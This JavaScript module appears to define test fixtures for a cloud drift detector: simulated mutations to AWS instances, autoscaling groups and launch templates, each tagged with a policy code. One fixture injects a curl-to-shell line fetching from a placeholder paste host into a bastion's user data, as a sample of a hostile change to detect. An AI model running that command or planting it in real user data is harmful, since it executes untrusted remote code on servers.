import { base64, idOf, images, name, zones } from './account.mjs'
import { bastionId, bastionUserData } from './bastion.mjs'
import { groupInstance, instances } from './fleet.mjs'
import { instanceOf, volumeOf } from './machines.mjs'
import { network } from './network.mjs'
import { groupName, templateData, templateId } from './template.mjs'
import { change, insert } from './world.mjs'

/** What was done to machines, their group and their template. */
const bastion = { address: 'aws_instance.bastion', kind: 'AWS::EC2::Instance', outcome: 'mutated' }
const group = { address: 'module.web.aws_autoscaling_group.this', kind: 'AWS::AutoScaling::AutoScalingGroup', outcome: 'mutated' }
const theBastion = (world) => world.of('AWS::EC2::Instance', bastionId)
const theGroup = (world) => world.of('AWS::AutoScaling::AutoScalingGroup', groupName)
const strayVolume = idOf('vol', 'by-hand')
const strayInstance = idOf('i', 'by-hand')

export const machineMutations = [
  {
    ...bastion,
    name: 'instance-type-changed',
    policy: 'DG306',
    apply: (world) => {
      // A type can be changed on a stopped instance only, and a start makes it look young.
      theBastion(world).LaunchTime = '2026-11-18T13:58:41Z'
      return change(theBastion(world), '', 'InstanceType', 't3.large')
    },
  },
  {
    ...bastion,
    name: 'user-data-changed',
    policy: 'DG305',
    apply: (world) => change(theBastion(world), '', 'UserData', base64(`${bastionUserData}curl -fsS https://paste.example/raw/9f | sh\n`)),
  },
  {
    ...bastion,
    name: 'instance-profile-swapped',
    policy: 'DG306',
    apply: (world) => change(theBastion(world), '', 'IamInstanceProfile', `${name}-web`),
  },
  {
    ...bastion,
    name: 'volume-attached-by-hand',
    policy: 'DG307',
    apply: (world) => {
      world.add(
        ...volumeOf(strayVolume, { zone: zones[0], size: 200, encrypted: false, attachment: { instance: bastionId, device: '/dev/sdg' } }),
      )
      return insert(theBastion(world).Volumes, '/Volumes', { Device: '/dev/sdg', VolumeId: strayVolume })
    },
  },
  { name: 'volume-by-hand', address: strayVolume, kind: 'AWS::EC2::Volume', outcome: 'unmanaged', policy: 'DG103', apply: () => ({}) },
  {
    name: 'role-of-a-group-machine-swapped',
    address: instances[0],
    kind: 'AWS::EC2::Instance',
    outcome: 'mutated',
    policy: 'DG306',
    apply: (world) => change(world.of('AWS::EC2::Instance', instances[0]), '', 'IamInstanceProfile', `${name}-bastion`),
  },
  {
    name: 'instance-on-old-image',
    address: instances[2],
    kind: 'AWS::EC2::Instance',
    outcome: 'image',
    policy: 'DG203',
    apply: (world) => {
      world.add(...groupInstance(2, { image: images.webOld, version: '1', launched: '2026-08-14T11:26:08Z' }))
      theGroup(world).Instances[2].LaunchTemplate.Version = '1'
      // Old image, old machine, old template version: one machine, one finding.
      return { alsoBreaks: ['DG202', 'DG301', 'DG302'] }
    },
  },
  // What the old machine makes of its group.
  { ...group, name: 'group-of-two-images', outcome: 'image', policy: 'DG303', apply: () => ({}) },
  {
    ...group,
    name: 'process-suspended',
    policy: 'DG308',
    apply: (world) => insert(theGroup(world).SuspendedProcesses, '/SuspendedProcesses', 'ReplaceUnhealthy'),
  },
  {
    ...group,
    name: 'scale-in-protection-set',
    policy: 'DG308',
    // Nobody declares the instances of a group: what is set on one is an addition.
    apply: (world) => ({ ...change(theGroup(world).Instances[1], '/Instances/1', 'ProtectedFromScaleIn', true), change: 'added' }),
  },
  {
    name: 'template-default-set-back',
    address: 'module.web.aws_launch_template.this',
    kind: 'AWS::EC2::LaunchTemplate',
    outcome: 'mutated',
    policy: 'DG101',
    apply: (world) => {
      const template = world.of('AWS::EC2::LaunchTemplate', templateId)
      template.LaunchTemplateData = templateData(images.webOld)
      return { ...change(template, '', 'DefaultVersionNumber', 1), consequences: ['/LaunchTemplateData/ImageId'] }
    },
  },
  {
    name: 'instance-by-hand',
    address: strayInstance,
    kind: 'AWS::EC2::Instance',
    outcome: 'unmanaged',
    policy: 'DG304',
    apply: (world) => {
      world.add(
        ...instanceOf(strayInstance, {
          image: 'ami-0e5f882be1900e43b',
          type: 't3.medium',
          zone: zones[0],
          subnet: network.public[0],
          ip: '10.20.0.151',
          publicIp: '3.252.74.9',
          groups: [idOf('sg', 'by-hand')],
          tags: [{ Key: 'Name', Value: 'test adam' }],
          rootSize: 8,
          key: 'adam-laptop',
          launched: '2026-11-17T16:21:30Z',
          tokens: 'optional',
        }),
      )
      return {}
    },
  },
]
